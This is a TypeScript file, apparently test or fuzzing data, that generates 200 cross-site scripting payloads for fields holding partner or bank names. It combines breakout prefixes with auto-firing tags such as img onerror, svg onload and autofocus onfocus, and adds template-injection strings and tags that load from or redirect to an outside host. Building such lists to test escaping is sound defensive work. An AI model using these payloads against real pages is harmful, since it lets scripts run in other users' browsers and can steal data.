/** Texts that become script in a page that forgets to escape one of the places where it writes a name. */

/** Each shows that it ran: by a dialog, by a variable, or by a request to a site that is not ours. */
const CALLS = ['alert(1)', 'alert`1`', 'top.x=1', 'fetch("//e.ee")'];
/** The ends of what a text may stand in: attributes, elements, comments. */
const BREAKOUTS = ['', '">', "'>", '</title>', '</p>', '</dl>', '</template>', '-->', '</script>', '"/>'];
/** What runs by itself: each with a handler that browsers call without a player's doing. */
const STARTERS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><set onbegin=${call} dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}>`,
  (call) => `<textarea autofocus onfocus=${call}>`,
  (call) => `<b tabindex=0 autofocus onfocus=${call}>`,
  (call) => `<input type=image src=x onerror=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video src=x onerror=${call}>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<iframe src='javascript:${call}'></iframe>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<object data=x onerror=${call}></object>`,
];
/** What templates would fill in, what changes the page without a script, and what waits for a player. */
const OTHERS = [
  '<%= process.env %>',
  '<%~ it.texts %>',
  '{{7*7}}',
  '${7*7}',
  '&lt;b&gt;',
  '&#60;script&#62;',
  '<script src=//e.ee></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<a href=javascript:alert(1)>x</a>',
  '<meta http-equiv=refresh content=0;url=//e.ee>',
  '<base href=//e.ee>',
  '<link rel=stylesheet href=//e.ee>',
  '<form action=//e.ee><button>x',
  '<iframe srcdoc=x>',
  '<object data=//e.ee>',
  '<!--',
  '<![CDATA[x]]>',
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" style="x:y',
];

/** 200 of them, each short enough for the name of a partner or of a bank. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...OTHERS,
  ...BREAKOUTS.flatMap((breakout, row) =>
    STARTERS.map((starter, column) => breakout + starter(CALLS[(row + column) % CALLS.length] ?? '')),
  ),
];
